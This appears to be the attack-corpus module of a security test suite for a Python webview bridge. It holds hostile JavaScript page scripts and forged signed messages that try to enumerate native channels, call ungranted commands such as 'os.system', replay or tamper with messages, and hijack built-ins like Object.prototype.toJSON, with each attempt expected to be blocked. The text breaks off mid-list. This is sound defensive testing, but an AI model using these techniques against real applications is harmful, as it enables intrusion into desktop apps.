"""The attack corpus: hostile page scripts, each a real attempt to reach Python.

Every case is data: an id, a category, the attacker ability it models, what it tries,
the JS body and the expected outcome. ``harness.py`` runs the bodies as page scripts in
the real webview (``ramparts dev --headless --eval``), many per app launch when they
cannot interfere, and judges each case by what Python did, not only by what JS saw:

* the **canary** command appends its ``tag`` to a file outside the page. A case's
  attempts carry the case id as tag, so a single line with that tag means Python ran a
  command for the attack (``traces`` says how many lines are legitimately expected,
  e.g. the original of a replayed message);
* after each case the harness makes a **control** call (tag ``control:<id>``) that must
  land: it proves the bridge, and so the canary, still worked in that exact page state;
* the ``--trace`` log lists every call that passed MAC and replay checks: a
  not-allowed capability command (``sample.secret``) or an unlisted plugin (``spy``)
  appearing there fails the whole run.

A body runs as ``async (ID) => { BODY }`` after the helpers in ``PRELUDE`` and returns
``{escaped: bool, ...details}``: ``escaped`` is the page's own view of whether the
attack worked. A case passes when it did not escape by either measure.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import struct
from collections.abc import Callable
from typing import Any

import attrs

from ramparts.bridge.protocol import sign_binary

#: Attacker abilities (the rows of the threat model).
ABILITIES = {
    "xss": "script injected into the app page (an XSS the CSP did not stop)",
    "third-party": "a malicious third-party script loaded by the page, running before the app's code",
    "iframe": "content in a frame of the app page (same origin, other origin, srcdoc, data:)",
    "foreign-page": "a page of another origin in the window after a navigation",
    "captured-messages": "someone holding validly signed messages or the session key (a leaked key log), "
    "delivering them from the page",
    "local-process": "another process on the same machine",
}

#: Messages built in Python from the session's key log: ``forge(sessions) -> {name: body}``.
Forge = Callable[[list[dict[str, Any]]], dict[str, bytes]]


@attrs.frozen
class Case:
    id: str
    category: str
    ability: str
    description: str
    js: str
    expected: str = "blocked: nothing reaches Python"
    #: Canary lines with this case's tag that are legitimate (e.g. a replayed message's
    #: first, genuine delivery).
    traces: int = 0
    control: bool = True
    forge: Forge | None = None
    #: Cases sharing a launch group run in one app launch, in catalogue order.
    launch: str = "shared"
    #: Set when the attack is known to get through and why that is accepted; the case
    #: must then keep getting through (so this note cannot go stale).
    known_limit: str | None = None
    #: The engines on which the known limit holds (elsewhere the case must be blocked).
    known_limit_on: tuple[str, ...] = ("qt", "gtk")


# --- helpers for messages built from the key log ----------------------------------------


def _latest(sessions: list[dict[str, Any]]) -> dict[str, Any]:
    return sessions[-1]


def _call(entry: dict[str, Any], seq: int, tag: str, name: str = "canary", pos: int = 0) -> bytes:
    key = bytes.fromhex(entry["key"])
    handle = entry["handles"][name][pos]
    return sign_binary(key, {"s": seq, "h": handle, "c": f"cb{seq}", "a": {"tag": tag}})


def _forge_replay(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    e = _latest(sessions)
    return {"first": _call(e, 2001, "replay")}


def _forge_reorder(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    e = _latest(sessions)
    return {"high": _call(e, 2101, "reorder"), "lower": _call(e, 2050, "reorder")}


def _forge_truncate(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    e = _latest(sessions)
    good = _call(e, 2201, "truncated-padded")
    return {
        "truncated": good[:-3],
        "padded": good + b"\x00",
        "header-cut": good[: 36 + 5],
        "length-lie": good[:32] + struct.pack(">I", 10**6) + good[36:],
    }


def _forge_wrong_key(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    e = dict(_latest(sessions))
    e["key"] = hashlib.sha256(b"not the session key").hexdigest()
    return {"wrong-key": _call(e, 2301, "forged-wrong-key")}


def _forge_flip(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    e = _latest(sessions)
    good = bytearray(_call(e, 2401, "bit-flips"))
    out = {}
    for i in (0, 31, 33, 40, len(good) - 2):  # MAC, length, header, argument bytes
        bad = bytearray(good)
        bad[i] ^= 0x01
        out[f"flip{i}"] = bytes(bad)
    return out


def _forge_cross_carrier(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    """A binary body whose MAC uses the channel carrier's tag (domain separation)."""
    e = _latest(sessions)
    key = bytes.fromhex(e["key"])
    header = {
        "s": 2501,
        "h": e["handles"]["canary"][0],
        "c": "x",
        "a": {"tag": "cross-carrier-mac"},
    }
    hj = json.dumps({**header, "b": []}).encode()
    rest = struct.pack(">I", len(hj)) + hj
    return {"c-tag": hmac.new(key, b"C" + rest, hashlib.sha256).digest() + rest}


def _forge_old_session(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    """Valid messages of the page's previous session (before its reload)."""
    if len(sessions) < 2:
        return {}
    old = sessions[0]
    return {"old": _call(old, 2601, "old-session"), "old-2": _call(old, 1, "old-session")}


def _forge_ancient(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    e = _latest(sessions)
    return {
        "high": _call(e, 20_000, "ancient-sequence:high"),
        "ancient": _call(e, 15_000, "ancient-sequence"),
    }


def _forge_dead_handle(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    e = _latest(sessions)
    pool = e["handles"]["canary"]
    return {f"dead{i}": _call(e, 2701 + i, "dead-per-call-handle", pos=i) for i in range(len(pool))}


def _forge_guess_handle(sessions: list[dict[str, Any]]) -> dict[str, bytes]:
    e = dict(_latest(sessions))
    key = bytes.fromhex(e["key"])
    out = {}
    real = e["handles"]["canary"][0]
    guesses = ["A" * 22, "canary", real[:-1] + ("A" if real[-1] != "A" else "B"), real.upper()]
    for i, g in enumerate(guesses):
        if g == real:
            continue
        out[f"guess{i}"] = sign_binary(
            key, {"s": 2801 + i, "h": g, "c": "cb", "a": {"tag": "guessed-handles"}}
        )
    return out


# --- the page-side helpers every case may use ------------------------------------------

PRELUDE = r"""
const _P = Promise, _race = Promise.race.bind(Promise), _setTimeout = setTimeout;
const _fetch = fetch, _stringify = JSON.stringify, _parse = JSON.parse;
const sleep = (ms) => new _P((r) => _setTimeout(r, ms));
const settle = (p) => _P.resolve(p).then((v) => ({ ok: true, v }), (e) => ({ ok: false, code: e && e.code, msg: String(e && e.message) }));
const canary = (tag) => ramparts.invoke("canary", { tag });
const frame = (attrs) => { const f = document.createElement("iframe"); Object.assign(f, attrs); document.body.appendChild(f); return f; };
const dropFrames = () => { for (const f of document.querySelectorAll("iframe, object, embed")) f.remove(); };
// POST a raw body on the binary carrier: the HTTP status, or the reply when it is 200.
const post = async (body) => {
  const r = await _fetch("/.ramparts/ipc?n=" + body.length, { method: "POST", body }).catch(() => null);
  if (!r) return "network-error";
  if (r.status !== 200) return r.status;
  const buf = await r.arrayBuffer();
  const n = new DataView(buf).getUint32(0);
  return _parse(new TextDecoder().decode(new Uint8Array(buf, 4, n)));
};
// Messages the test built in Python from the key log, served at /__forged.json.
let _forged = null;
const forgedFor = async (id) => {
  while (!_forged) {
    const r = await _fetch("/__forged.json").catch(() => null);
    if (r && r.ok) _forged = await r.json(); else await sleep(20);
  }
  if (!_forged[id]) throw new Error(`no forged messages for ${id}`);
  return _forged[id];
};
const forged = async (id, name) => {
  const hex = (await forgedFor(id))[name];
  if (!hex) throw new Error(`no forged message ${id}/${name}`);
  return new Uint8Array(hex.match(/../g).map((h) => parseInt(h, 16)));
};
// Post every message forged for a case, in order: {escaped, out: {name: status or reply}}.
const postAll = async (id) => {
  const out = {};
  for (const name of Object.keys(await forgedFor(id))) out[name] = await post(await forged(id, name));
  return { escaped: Object.values(out).some(reached), out };
};
const reached = (r) => r && r.ok === true;  // a binary-carrier reply that ran the command
// Signed messages must get past the MAC and replay checks to the handle lookup, and
// stop there: otherwise the case tested the MAC, not the handles.
const handleCheck = (r) => {
  const codes = Object.values(r.out).map((x) => x && x.e && x.e.code);
  if (!codes.length || codes.some((c) => c !== "not_allowed")) throw new Error("not a handle rejection: " + _stringify(r.out));
  return { escaped: r.escaped, codes };
};
// A srcdoc frame running an app script that reports its call's outcome in body.dataset;
// the frames go afterwards (the bridge refuses everything while one exists). WebKitGTK
// refuses a srcdoc frame's navigation (about:srcdoc is no app URL): the frame stays an
// empty about:blank and its script never runs, which is that engine's answer ("never
// ran"); on Qt the script must run, or the case proved nothing.
const frameCall = async (script, key) => {
  const f = frame({ srcdoc: `<script src='/${script}'></scr` + "ipt>" });
  const report = () => document.body.dataset[key];
  const got = await waitFor(report, "the frame's call").catch((e) => {
    const empty = f.isConnected && f.contentDocument && !f.contentDocument.scripts.length;
    if (ENGINE === "gtk" && empty && f.contentWindow.location.href === "about:blank") return "never ran";
    throw e;
  });
  dropFrames();
  return got;
};
// The outcome a frame's call may have: refused, or (WebKitGTK) the frame never ran.
const refusedInFrame = (r) => r === "not_allowed" || (ENGINE === "gtk" && r === "never ran");
// Every CSP violation the page reports; the harness files them under the running case.
const _violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  _violations.push({ directive: e.effectiveDirective, blocked: String(e.blockedURI).slice(0, 100) });
});
// Poll instead of sleeping on luck: the value, or throw (the attempt never happened).
const waitFor = async (fn, what, ms = 5000) => {
  for (const end = Date.now() + ms; Date.now() < end; await sleep(20)) { const v = fn(); if (v) return v; }
  throw new Error(`${what} did not happen within ${ms} ms`);
};
"""

# --- the catalogue -------------------------------------------------------------------------

_ENUMERATE = r"""
// Walk everything reachable from window: own and inherited names, and every object one
// level down, looking for a native channel or bridge internals.
const pattern = /^(qt|QWebChannel|webChannelTransport|pywebview|_jsApiCallback|jsApi|chrome\.webview|webkit\.messageHandlers|external\.invoke|__TAURI|ipc|__ramparts)/i;
const found = [];
const seen = new Set();
const walk = (obj, path, depth) => {
  if (obj === null || (typeof obj !== "object" && typeof obj !== "function") || seen.has(obj) || depth > 2) return;
  seen.add(obj);
  for (let o = obj; o; o = Object.getPrototypeOf(o)) {
    for (const k of Reflect.ownKeys(o)) {
      const name = typeof k === "symbol" ? k.toString() : k;
      if (pattern.test(name)) found.push(path + "." + name);
      if (depth < 2 && path === "window") {
        let v; try { v = obj[k]; } catch (e) { continue; }
        walk(v, path + "." + name, depth + 1);
      }
    }
  }
};
walk(window, "window", 0);
const probes = {
  qt: typeof window.qt, pywebview: typeof window.pywebview, QWebChannel: typeof window.QWebChannel,
  chromeWebview: typeof (window.chrome && window.chrome.webview),
  webkitHandlers: typeof (window.webkit && window.webkit.messageHandlers),
  externalInvoke: typeof (window.external && window.external.invoke),
  tauri: typeof window.__TAURI__, tauriIpc: typeof window.__TAURI_IPC__,
};
const present = Object.entries(probes).filter(([, t]) => t !== "undefined").map(([k]) => k);
return { escaped: found.length > 0 || present.length > 0, found: found.slice(0, 20), present };
"""

_API_SURFACE = r"""
// Everything reachable from window.ramparts: its own keys, function sources, prototypes.
// Python checks the collected text against the real session key and handles.
const texts = [];
const seen = new Set();
const walk = (v, depth) => {
  if (v === null || (typeof v !== "object" && typeof v !== "function") || seen.has(v) || depth > 4) return;
  seen.add(v);
  if (typeof v === "function") { try { texts.push(Function.prototype.toString.call(v)); } catch (e) {} }
  for (const k of Reflect.ownKeys(v)) {
    texts.push(String(k));
    let d; try { d = Object.getOwnPropertyDescriptor(v, k); } catch (e) { continue; }
    if (d && "value" in d) { if (typeof d.value === "string") texts.push(d.value); walk(d.value, depth + 1); }
  }
  walk(Object.getPrototypeOf(v), depth + 1);
};
walk(window.ramparts, 0);
const stats = ramparts.stats();
texts.push(_stringify(stats));
// The bootstrap's closures are strict: no stack inspection may hand out their functions
// or `this`. On both engines: a sloppy getter run from inside the bootstrap reads its
// caller (`fn.caller` is null for a strict caller; a control call from our own sloppy
// function shows the probe works). On V8 also its structured stack trace.
const sources = [];
const callers = [];
function getter() { callers.push(getter.caller); return 1; }
const hostile = {};
Object.defineProperty(hostile, "value", { get: getter, enumerable: true });
(function sloppyControl() { return hostile.value; })();
const controlSawCaller = typeof callers[0] === "function";
callers.length = 0;
const prev = Error.prepareStackTrace;
let frameCount = 0;
Error.prepareStackTrace = (err, frames) => {
  for (const f of frames) {
    frameCount++;
    let fn; try { fn = f.getFunction(); } catch (e) {}
    if (fn) sources.push(Function.prototype.toString.call(fn));
  }
  return "x";
};
const stackGetter = { get value() { new Error().stack; return 1; } };
await settle(ramparts.invoke("canary", { tag: stackGetter }));  // run inside the bootstrap
Error.prepareStackTrace = prev;
await settle(ramparts.invoke("canary", { tag: hostile }));
for (const c of callers) if (typeof c === "function") sources.push(Function.prototype.toString.call(c));
// Our own sloppy-mode functions show up; a bootstrap function would be recognisable.
const bootstrapFns = sources.filter((s) => /takeHandle|sendBinary|collect\(|CONFIG/.test(s));
texts.push(...sources);
const probed = controlSawCaller && callers.length > 0 && (ENGINE !== "qt" || frameCount >= 3);
return { escaped: bootstrapFns.length > 0 || !probed, frameCount, getterCalls: callers.length, controlSawCaller, bootstrapFns: bootstrapFns.length, texts, statsKeys: Object.keys(stats) };
"""

_OTHER_ORIGIN_FRAMES = r"""
const call = "<script>parent.ramparts.invoke('canary', {tag: '" + ID + "'})</scr" + "ipt>";
const blob = URL.createObjectURL(new Blob([call], { type: "text/html" }));
const fs = [frame({ src: "https://example.com/" }), frame({ src: "data:text/html," + encodeURIComponent(call) }),
  frame({ src: blob })];
await sleep(400);
// Only two outcomes are safe: cross-origin (unreachable) or an empty same-origin about:blank.
const access = fs.map((f) => { try { return f.contentWindow.location.href + " " + typeof f.contentWindow.ramparts; } catch (e) { return "cross-origin"; } });
dropFrames();
return { escaped: access.some((a) => a !== "cross-origin" && a !== "about:blank undefined"), access };
"""

#: Every way a page can reach another origin; ``__LOOPBACK__`` is the test's own
#: loopback server, whose log is the evidence. The script it serves calls the canary.
PAGE_NETWORK = r"""
const base = "__LOOPBACK__/" + ID + "/";
const out = {};
const s = document.createElement("script"); s.src = base + "script.js"; document.head.appendChild(s);
out.fetch = await _fetch(base + "fetch").then((r) => r.text(), (e) => e.name);
out.noCors = await _fetch(base + "no-cors", { mode: "no-cors", method: "POST", body: "x" }).then(() => "sent", (e) => e.name);
out.xhr = await new _P((done) => {
  const x = new XMLHttpRequest();
  x.onload = () => done(x.responseText); x.onerror = () => done("error");
  try { x.open("GET", base + "xhr"); x.send(); } catch (e) { done(e.name); }
});
const closers = [];
try { const w = new WebSocket(base.replace("http:", "ws:") + "ws"); closers.push(() => w.close()); out.ws = "created"; } catch (e) { out.ws = e.name; }
try { const es = new EventSource(base + "event-source"); closers.push(() => es.close()); out.es = "created"; } catch (e) { out.es = e.name; }
const img = new Image(); img.src = base + "image.png";
try { out.beacon = navigator.sendBeacon(base + "beacon", "x"); } catch (e) { out.beacon = e.name; }
const link = document.createElement("link"); link.rel = "prefetch"; link.href = base + "prefetch"; document.head.appendChild(link);
frame({ src: base + "iframe" });
const form = document.createElement("form"); form.action = base + "form"; form.method = "post"; document.body.appendChild(form);
try { form.submit(); } catch (e) { out.form = e.name; }
await sleep(600);  // the server's log decides; this only lets the requests go out
for (const c of closers) c();
form.remove(); link.remove(); s.remove(); dropFrames();
return { escaped: out.fetch === "reached" || out.xhr === "reached", out };
"""

CASES: list[Case] = [
    # --- enumeration -------------------------------------------------------------------
    Case(
        "enumerate-window",
        "enumerate",
        "xss",
        "Walk window and every prototype for a native channel (qt, pywebview, chrome.webview, "
        "webkit.messageHandlers, external.invoke, Tauri globals) or bridge internals.",
        _ENUMERATE,
        "blocked: no channel object exists in the page's world",
    ),
    Case(
        "api-surface-secrets",
        "enumerate",
        "xss",
        "Read every property, function source and prototype reachable from window.ramparts and "
        "ramparts.stats(), and read the callers (and, on V8, the structured stack trace) of "
        "getters run inside the bootstrap, looking for the session key, a handle or a "
        "bootstrap closure.",
        _API_SURFACE,
        "blocked: no key, handle or closure is reachable (checked in Python against the key log)",
    ),
    Case(
        "freeze-and-replace-api",
        "enumerate",
        "xss",
        "Replace window.ramparts, add a command to a namespace, redefine invoke, or shadow it "
        "on Object.prototype, so the app's own later calls go to the attacker.",
        r"""
        const out = {};
        try { window.ramparts = { invoke: () => "hijacked" }; } catch (e) {}
        try { Object.defineProperty(window, "ramparts", { value: {} }); } catch (e) { out.redefine = e.name; }
        try { ramparts.invoke = () => "hijacked"; } catch (e) {}
        try { ramparts.sample.secret = () => "hijacked"; } catch (e) {}
        try { delete window.ramparts; } catch (e) {}
        Object.prototype.secret = () => "hijacked";
        out.secret = typeof ramparts.sample.secret;  // own props only? the namespace has a null prototype
        delete Object.prototype.secret;
        out.invoke = await settle(ramparts.invoke("canary", { tag: "control-" + ID }));
        out.unlisted = await settle(ramparts.invoke("sample.secret", {}));
        const escaped = out.invoke.v !== "ran:control-" + ID || out.secret !== "undefined" || out.unlisted.ok;
        return { escaped, ...out };
        """,
        traces=0,
    ),
    Case(
        "unlisted-commands",
        "enumerate",
        "xss",
        "Call commands that exist in Python but are not granted: a not-allowed command of a "
        "listed capability, an installed but unlisted plugin, Python internals, and names with "
        "path tricks.",
        r"""
        const names = ["sample.secret", "spy.ping", "fs.read_text", "shell.execute", "__import__",
          "os.system", "sample.__class__", "sample..secret", "canary.__globals__", "constructor",
          "__proto__", "hasOwnProperty", "toString"];
        const out = {};
        for (const n of names) out[n] = await settle(ramparts.invoke(n, { tag: ID }));
        return { escaped: Object.values(out).some((r) => r.ok), codes: Object.fromEntries(Object.entries(out).map(([k, r]) => [k, r.code])) };
        """,
    ),
    # --- native channels -------------------------------------------------------------------
    Case(
        "native-channels",
        "native-channel",
        "xss",
        "Call pywebview's and Qt's channels directly: pywebview._jsApiCallback, "
        "qt.webChannelTransport.send with a QWebChannel invoke message, a new QWebChannel, and "
        "window.external / chrome.webview / webkit.messageHandlers postMessage.",
        r"""
        const tried = {};
        const msg = JSON.stringify({ type: 6, object: "bridge", method: 0, args: ["x." + ID], id: 1 });
        const attempt = (name, fn) => { try { fn(); tried[name] = "called"; } catch (e) { tried[name] = e.name; } };
        attempt("pywebview", () => window.pywebview._jsApiCallback("canary", [ID], 1));
        attempt("pywebviewApi", () => window.pywebview.api.canary(ID));
        attempt("qtTransport", () => window.qt.webChannelTransport.send(msg));
        attempt("QWebChannel", () => new QWebChannel(qt.webChannelTransport, () => {}));
        attempt("chromeWebview", () => window.chrome.webview.postMessage(ID));
        attempt("webkit", () => window.webkit.messageHandlers.bridge.postMessage(ID));
        attempt("external", () => window.external.invoke(ID));
        window.postMessage({ type: 6, object: "bridge", args: [ID] }, "*");  // judged by the canary
        await sleep(100);
        return { escaped: Object.values(tried).includes("called"), tried };
        """,
    ),
    Case(
        "relay-event-guess",
        "native-channel",
        "xss",
        "Talk to the isolated-world relay without its random event names: dispatch "
        "CustomEvents with guessed and well-known names carrying a message, and listen for "
        "any reply on document/window.",
        r"""
        const names = ["ramparts", "ramparts:", "ramparts:relay", "message", "bridge", "ipc",
          "ramparts:" + "0".repeat(32), "ramparts:" + "f".repeat(32)];
        for (let i = 0; i < 200; i++) {
          const b = crypto.getRandomValues(new Uint8Array(16));
          names.push("ramparts:" + Array.from(b, (x) => x.toString(16).padStart(2, "0")).join(""));
        }
        const heard = [];
        for (const n of names) { document.addEventListener(n, (e) => heard.push(n), true); window.addEventListener(n, (e) => heard.push(n), true); }
        const payload = "A".repeat(43) + "." + JSON.stringify({ s: 3000, h: "x", c: "y", a: { tag: ID } });
        for (const n of names) { document.dispatchEvent(new CustomEvent(n, { detail: payload })); window.dispatchEvent(new CustomEvent(n, { detail: payload })); }
        heard.length = 0;  // our own dispatches
        await settle(ramparts.invoke("canary", { tag: "control-" + ID }));  // a real round trip
        await sleep(50);
        return { escaped: heard.length > 0, heard: heard.slice(0, 5) };
        """,
        traces=0,
    ),
    # --- messages -----------------------------------------------------------------------------
    Case(
        "forged-unsigned",
        "messages",
        "xss",
        "POST hand-made bodies to the binary carrier: no MAC, a zero MAC, random bytes, an "
        "empty body, a GET, a body whose ?n= length lies, and a huge declared length.",
        r"""
        const enc = new TextEncoder();
        const header = enc.encode(JSON.stringify({ s: 3100, h: "x", c: "y", a: { tag: ID }, b: [] }));
        const body = new Uint8Array(36 + header.length);
        new DataView(body.buffer).setUint32(32, header.length);
        body.set(header, 36);
        const out = {};
        out.zeroMac = await post(body);
        out.random = await post(crypto.getRandomValues(new Uint8Array(512)));
        out.empty = await post(new Uint8Array(0));
        out.get = await _fetch("/.ramparts/ipc").then((r) => r.status, () => "network-error");
        out.lyingN = await _fetch("/.ramparts/ipc?n=5", { method: "POST", body }).then((r) => r.status, () => "network-error");
        out.hugeN = await _fetch("/.ramparts/ipc?n=99999999999", { method: "POST", body }).then((r) => r.status, () => "network-error");
        out.noN = await _fetch("/.ramparts/ipc", { method: "POST", body }).then((r) => r.status, () => "network-error");
        return { escaped: Object.values(out).some(reached), out };
        """,
    ),
    Case(
        "forged-wrong-key",
        "messages",
        "captured-messages",
        "A well-formed message for the real canary handle, signed with a wrong key.",
        "return await postAll(ID);",
        forge=_forge_wrong_key,
        launch="keylog",
    ),
    Case(
        "bit-flips",
        "messages",
        "captured-messages",
        "A validly signed message with one bit flipped in the MAC, the length, the header and "
        "the arguments.",
        "return await postAll(ID);",
        forge=_forge_flip,
        launch="keylog",
    ),
    Case(
        "truncated-padded",
        "messages",
        "captured-messages",
        "A validly signed message truncated, padded by a byte, cut inside its header, and with "
        "a header length that points past the end.",
        "return await postAll(ID);",
        forge=_forge_truncate,
        launch="keylog",
    ),
    Case(
        "cross-carrier-mac",
        "messages",
        "captured-messages",
        "A binary-carrier body MACed with the channel carrier's domain tag.",
        "return await postAll(ID);",
        forge=_forge_cross_carrier,
        launch="keylog",
    ),
    Case(
        "replay",
        "messages",
        "captured-messages",
        "Deliver a validly signed call, then replay it five times, including concurrently.",
        r"""
        const first = await post(await forged(ID, "first"));
        const again = [await post(await forged(ID, "first"))];
        again.push(...await Promise.all([1, 2, 3, 4].map(async () => post(await forged(ID, "first")))));
        return { escaped: again.some(reached), first: reached(first), again };
        """,
        expected="blocked: the genuine message runs once, every replay is refused",
        traces=1,
        forge=_forge_replay,
        launch="keylog",
    ),
    Case(
        "reorder",
        "messages",
        "captured-messages",
        "Deliver two signed calls out of order (higher sequence number first), then replay the "
        "lower one.",
        r"""
        const high = await post(await forged(ID, "high"));
        const lower = await post(await forged(ID, "lower"));
        const replay = await post(await forged(ID, "lower"));
        return { escaped: reached(replay), high: reached(high), lower: reached(lower), replay };
        """,
        expected="blocked: both genuine messages run once (reordering is tolerated), the replay is refused",
        traces=2,
        forge=_forge_reorder,
        launch="keylog",
    ),
    Case(
        "ancient-sequence",
        "messages",
        "captured-messages",
        "A never-seen message whose sequence number is below the replay window.",
        r"""
        const high = await post(await forged(ID, "high"));
        const ancient = await post(await forged(ID, "ancient"));
        return { escaped: reached(ancient), high: reached(high), ancient };
        """,
        expected="blocked: refused although never seen (the window has moved past it)",
        control=False,  # the page's own small sequence numbers are now below the window too
        forge=_forge_ancient,
        launch="keylog",
    ),
    Case(
        "old-session",
        "messages",
        "captured-messages",
        "After a reload, deliver messages signed with the previous session's key and handles.",
        "return await postAll(ID);",
        forge=_forge_old_session,
        launch="reload",
    ),
    # --- handles and callbacks ------------------------------------------------------------------
    Case(
        "dead-per-call-handle",
        "handles",
        "captured-messages",
        "Per-call mode: after the page has used the whole initial handle pool, deliver signed "
        "calls that reuse every spent handle.",
        r"""
        await Promise.all(Array.from({ length: 40 }, (_, i) => canary("spend-" + ID)));
        return handleCheck(await postAll(ID));
        """,
        forge=_forge_dead_handle,
        launch="per-call",
    ),
    Case(
        "guessed-handles",
        "handles",
        "captured-messages",
        "Signed calls with guessed handles: the command's name, a constant, and near misses of "
        "the real handle (one character changed, changed case).",
        r"""
        return handleCheck(await postAll(ID));
        """,
        forge=_forge_guess_handle,
        launch="per-call",
    ),
    Case(
        "signing-oracle-dead-handle",
        "handles",
        "xss",
        "Per-call mode: hook Object.prototype.toJSON so the bootstrap serialises (and signs) a "
        "header the attacker edits: capture a handle from one call, then send a later call "
        "with that spent handle and with random guessed handles.",
        r"""
        let captured = null, swap = null;
        Object.defineProperty(Object.prototype, "toJSON", { configurable: true, value: function () {
          if (typeof this.h === "string" && typeof this.c === "string" && "s" in this) {
            if (!captured) captured = this.h;
            if (swap) { const copy = Object.assign({}, this); copy.h = swap; return copy; }
          }
          return this;
        } });
        const out = {};
        try {
          out.first = await settle(canary("spend-" + ID));  // its handle dies now
          swap = captured;
          out.reuse = await settle(canary(ID));
          const b = crypto.getRandomValues(new Uint8Array(16));
          swap = btoa(String.fromCharCode(...b)).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
          out.guess = await settle(canary(ID));
        } finally { delete Object.prototype.toJSON; }
        return { escaped: out.reuse.ok || out.guess.ok, sawHandle: captured !== null, reuse: out.reuse.code, guess: out.guess.code };
        """,
        expected="blocked: the page script can make the bootstrap sign a header of its choosing "
        "(it already holds the page's power), but a spent or guessed handle finds no command",
        launch="per-call",
    ),
    Case(
        "guessed-callback-ids",
        "handles",
        "xss",
        "Resolve another call's pending promise: make replies carry guessed callback ids (via "
        "the toJSON oracle) while a slow call is pending, and check the slow call still gets "
        "its own result.",
        r"""
        const slow = ramparts.sample.slow_async({ ms: 1500 });
        await sleep(50);  // its own header is out before the hook goes in
        let forcedC = null;
        Object.defineProperty(Object.prototype, "toJSON", { configurable: true, value: function () {
          if (forcedC !== null && typeof this.h === "string" && typeof this.c === "string" && "s" in this) {
            const copy = Object.assign({}, this); copy.c = forcedC; return copy;
          }
          return this;
        } });
        const guesses = ["0".repeat(32), "f".repeat(32), "1", "", "__proto__", "constructor"];
        const outcomes = [];
        try {
          for (const g of guesses) { forcedC = g; outcomes.push(await _race([settle(ramparts.sample.echo({ value: "evil" })), sleep(150).then(() => "no reply")])); }
        } finally { forcedC = null; delete Object.prototype.toJSON; }
        const own = await slow;
        // A reply to a guessed id must resolve nothing: not the decoy, not the slow call.
        const answered = outcomes.filter((o) => o !== "no reply").length;
        return { escaped: own !== 1500 || answered > 0, slowResult: own, evil: outcomes };
        """,
        expected="blocked: a reply to an unknown callback id is dropped; the pending call gets its own result",
    ),
    # --- poisoned built-ins ----------------------------------------------------------------------
    Case(
        "poison-builtins-third-party",
        "poisoned-builtins",
        "third-party",
        "A script loaded before the app's code replaces JSON.stringify/parse, Promise.prototype."
        "then, fetch, crypto.subtle.sign/importKey, crypto.getRandomValues, TextEncoder, "
        "CustomEvent and dispatchEvent, recording everything they see, then lets the app call "
        "the bridge on both carriers.",
        r"""
        const log = window.__poisonLog;
        const calls = [await settle(ramparts.invoke("canary", { tag: "control-" + ID })),
          await settle(ramparts.sample.echo_bytes({ data: new Uint8Array([1, 2, 3]) })),
          await settle(ramparts.sample.echo({ value: { deep: [1, 2] } }))];
        const ok = calls.every((c) => c.ok);
        // What the hooks saw; Python checks this text for the key and handles.
        return { escaped: !ok, calls: calls.map((c) => c.ok), hooked: Object.keys(log.counts), texts: log.texts.slice(0, 200) };
        """,
        expected="blocked: the bootstrap captured its primitives first; the hooks see no key, "
        "handle or signed message and the calls still work",
        launch="poison",
    ),
    Case(
        "promise-thenable-hijack",
        "poisoned-builtins",
        "xss",
        "Make every await inside the bootstrap go through a patched Promise.prototype.then "
        "(by changing Promise.prototype.constructor), to collect the values the bootstrap "
        "awaits: the CryptoKey, the fetch response, the reply.",
        r"""
        const origThen = Promise.prototype.then;
        const seen = [];
        Object.defineProperty(Promise.prototype, "constructor", { configurable: true, writable: true, value: function Fake() {} });
        Promise.prototype.then = function (ok, err) {
          return origThen.call(this, (v) => { seen.push(v); return ok ? ok(v) : v; }, err);
        };
        let r;
        try { r = await settle(ramparts.invoke("canary", { tag: "control-" + ID })); }
        finally { Promise.prototype.then = origThen; delete Promise.prototype.constructor; Object.defineProperty(Promise.prototype, "constructor", { configurable: true, writable: true, value: Promise }); }
        const keys = seen.filter((v) => v instanceof CryptoKey);
        let exported = "none";
        for (const k of keys) exported = await crypto.subtle.exportKey("raw", k).then(() => "EXPORTED", (e) => e.name);
        // A captured key object can sign in this page only: the page already has that power.
        const texts = seen.filter((v) => typeof v === "string");
        return { escaped: exported === "EXPORTED", keyObjects: keys.length, exported, extractable: keys.map((k) => k.extractable), call: r.ok, texts };
        """,
        expected="contained: a page script can reach the non-extractable CryptoKey object (and so "
        "sign in this page, which it could already make the bridge do) but cannot export it",
        launch="poison-2",
    ),
    Case(
        "prototype-setters",
        "poisoned-builtins",
        "xss",
        "Install setters and getters on Object.prototype/Array.prototype for every header and "
        "reply field name (s, h, c, a, b, n, ok, r, e, ev, ready) and try to redirect the "
        "page's call to a not-allowed command.",
        r"""
        const seen = [];
        const names = ["s", "h", "c", "a", "b", "n", "ok", "r", "e", "ev", "ready", "$bytes"];
        for (const k of names) Object.defineProperty(Object.prototype, k, { configurable: true,
          get() { seen.push("get " + k); return undefined; }, set(v) { seen.push("set " + k); Object.defineProperty(this, k, { value: v, writable: true, enumerable: true, configurable: true }); } });
        let r1, r2;
        try {
          r1 = await _race([settle(ramparts.sample.echo({ value: 7 })), sleep(3000).then(() => ({ ok: false, code: "no reply" }))]);
          r2 = await _race([settle(ramparts.sample.echo_bytes({ data: new Uint8Array([9]) })), sleep(3000).then(() => ({ ok: false, code: "no reply" }))]);
        } finally { for (const k of names) delete Object.prototype[k]; }
        const unlisted = await settle(ramparts.invoke("sample.secret", {}));
        return { escaped: unlisted.ok, echo: r1, bytes: r2.ok, observed: [...new Set(seen)] };
        """,
        expected="contained: such hooks can watch and break the page's own calls (documented), "
        "never reach a command that is not allowed",
        launch="poison-2",
    ),
    # --- frames -----------------------------------------------------------------------------------
    Case(
        "iframe-same-origin",
        "frames",
        "iframe",
        "An app-origin frame loading a page whose script calls parent.ramparts (and its own).",
        r"""
        const f = frame({ src: "/frame.html" });
        await new Promise((r) => { f.onload = r; _setTimeout(r, 2000); });  // the refused load ends
        await sleep(300);
        const ran = document.body.dataset.frameRan || "never ran";
        const url = f.contentWindow.location.href;
        dropFrames();
        return { escaped: ran !== "never ran" || url !== "about:blank", url };
        """,
        expected="blocked: the frame's navigation is refused (it stays about:blank); its script never runs",
    ),
    Case(
